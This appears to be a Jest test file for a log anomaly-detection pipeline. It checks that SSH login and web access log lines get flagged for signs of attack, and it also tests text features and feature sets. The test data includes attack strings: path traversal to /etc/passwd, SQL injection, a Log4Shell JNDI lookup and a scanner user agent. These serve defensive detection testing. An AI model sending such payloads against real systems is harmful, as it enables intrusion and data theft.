import { AUTH_COLUMNS, fillAuthSigns } from '../../../../../sidecar/pipeline/features/auth_signs';
import {
  checkFeatureSets,
  columnsOff,
  DEFAULT_FEATURE_SETS,
  FEATURE_SETS,
} from '../../../../../sidecar/pipeline/features/feature_sets';
import { COLUMN, LINE_COLUMNS } from '../../../../../sidecar/pipeline/features/columns';
import { TextFeatures } from '../../../../../sidecar/pipeline/features/text_features';
import { fillWebSigns, WEB_COLUMNS } from '../../../../../sidecar/pipeline/features/web_signs';
import { trainPipeline, TrainedPipeline } from '../../../../../sidecar/pipeline';
import type { LogEvent } from '../../../../../sidecar/pipeline/parse';

type Fill = (raw: string, values: Float32Array, at: number) => void;

function signsOf(fill: Fill, columns: readonly string[], raw: string): string[] {
  const values = new Float32Array(columns.length);
  fill(raw, values, 0);
  return columns.filter((_, i) => values[i] > 0);
}

describe('signs in logs of logins', () => {
  it.each([
    [
      'Jan  5 02:11:07 db-01 sshd[29273]: Failed password for invalid user admin from 192.0.2.18 port 36769 ssh2',
      ['auth_failure', 'auth_unknown_user', 'auth_root'],
    ],
    [
      'sshd[1]: Failed password for root from 192.0.2.18 port 3 ssh2',
      ['auth_failure', 'auth_root'],
    ],
    [
      'sshd[1]: reverse mapping checking getaddrinfo for x [192.0.2.1] failed - POSSIBLE BREAK-IN ATTEMPT!',
      ['auth_attack'],
    ],
    [
      'sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls',
      ['auth_privilege', 'auth_root'],
    ],
    ['sshd[1]: Accepted publickey for ann from 192.0.2.2 port 4 ssh2', []],
  ])('should be found in %s', (raw, signs) => {
    expect(signsOf(fillAuthSigns, AUTH_COLUMNS, raw).sort()).toEqual([...signs].sort());
  });
});

describe('signs in access logs', () => {
  const line = (request: string, status = 200, agent = 'Mozilla/5.0') =>
    `192.0.2.1 - - [05/Jan/2026:00:00:00 +0000] "${request} HTTP/1.1" ${status} 4674 "-" "${agent}"`;

  it.each([
    [line('GET /shop/cart?id=3'), []],
    [line('GET /../../etc/passwd', 404), ['web_error', 'web_traversal']],
    [line("GET /item?id=1'+or+1=1"), ['web_injection']],
    [line('GET /item?id=1%20UNION%20SELECT%20name'), ['web_encoded', 'web_injection']],
    [line('TRACE /', 405), ['web_error', 'web_method']],
    [line('GET /?x=${jndi:ldap://192.0.2.9/a}'), ['web_injection']],
    [line('GET /', 200, 'sqlmap/1.7'), ['web_scanner']],
    [line(`GET /${'a'.repeat(500)}?${'p=1&'.repeat(20)}`), ['web_long_path', 'web_parameters']],
    ['no request at all', []],
  ])('should be found in %s', (raw, signs) => {
    expect(signsOf(fillWebSigns, WEB_COLUMNS, raw).sort()).toEqual([...signs].sort());
  });

  it('should stay quick on a line made to be slow', () => {
    const raw = `GET /${'%27 '.repeat(200_000)}`;
    expect(signsOf(fillWebSigns, WEB_COLUMNS, raw)).toContain('web_encoded');
  });
});

describe('text features', () => {
  const patterns = [
    { words: ['request', 'received', 'from', 'client'], lines: 5_000 },
    { words: ['cache', 'refreshed', 'evicted'], lines: 2 },
  ];

  it.each(['tfidf', 'embeddings'] as const)(
    'should put usual words near, others far: %s',
    (kind) => {
      const text = TextFeatures.fit(kind, patterns, 1);
      const farthest = (words: string[]) => Math.max(...text.distances(words));
      expect(farthest(['disk', 'failure', 'on', 'sda'])).toBeGreaterThan(0);
      expect(farthest(['cache', 'refreshed', 'evicted'])).toBeGreaterThan(
        farthest(['request', 'received', 'from', 'client']),
      );
      expect([...TextFeatures.fit(kind, patterns, 1).distances(['request'])]).toEqual([
        ...text.distances(['request']),
      ]);
    },
  );
});

describe('feature sets', () => {
  it('should cover every column, and name what there is', () => {
    expect(columnsOff(FEATURE_SETS)).toEqual([]);
    expect(columnsOff(['patterns'])).toHaveLength(LINE_COLUMNS.length - 3);
    expect(() => checkFeatureSets(['sound'])).toThrow(/no features "sound"; there are patterns/);
    expect(() => checkFeatureSets([])).toThrow(/At least one/);
  });

  const events = (): LogEvent[] =>
    Array.from({ length: 600 }, (_, i) => ({
      raw: i % 3 === 0 ? `request ${i} served in ${10 + (i % 7)} ms` : `cache ${i % 5} refreshed`,
      timestampMs: 1_760_000_000_000 + i * 1_000,
      level: i % 50 === 0 ? 'error' : 'info',
      host: 'web-1',
      service: 'shop',
      sourceIp: '',
    }));

  async function trainWith(features: readonly string[]): Promise<TrainedPipeline> {
    const source = async function* () {
      yield events();
    };
    const steps = trainPipeline(source, { seed: 1, alertBudgetPerDay: 10, features });
    let step = await steps.next();
    while (!step.done) step = await steps.next();
    return TrainedPipeline.fromBytes(step.value.toBytes());
  }

  const strange: LogEvent = {
    raw: 'disk array controller reports 99 ms',
    timestampMs: 1_760_000_700_000,
    level: 'error',
    host: 'web-9',
    service: 'shop',
    sourceIp: '',
  };

  it('should leave out what is off, in scores and in reasons', async () => {
    const all = await trainWith(DEFAULT_FEATURE_SETS);
    const few = await trainWith(
      DEFAULT_FEATURE_SETS.filter((name) => name !== 'level' && name !== 'sources'),
    );
    const kinds = (pipeline: TrainedPipeline) =>
      pipeline
        .scoreBatch([strange], { reasons: 'all' })
        .reasons(0)
        .map(({ kind }) => kind);
    expect(kinds(all)).toEqual(expect.arrayContaining(['level', 'new_host']));
    expect(kinds(few)).not.toContain('level');
    expect(kinds(few)).not.toContain('new_host');
    expect(few.info.features).not.toContain('level');
  });

  it('should bring in text, login and web features, and keep them over a save', async () => {
    const pipeline = await trainWith(FEATURE_SETS);
    const scores = pipeline.scoreBatch([...events().slice(0, 50), strange], { reasons: 'all' });
    expect(scores.scores[50]).toBeGreaterThan(Math.max(...scores.scores.slice(0, 50)));
    const sum = scores.reasons(50).reduce((total, { contribution }) => total + contribution, 0);
    expect(sum).toBeCloseTo(scores.scores[50], 6);
  });

  it('should keep the position of each usual column', () => {
    expect(COLUMN.new_pattern).toBe(0);
  });
});
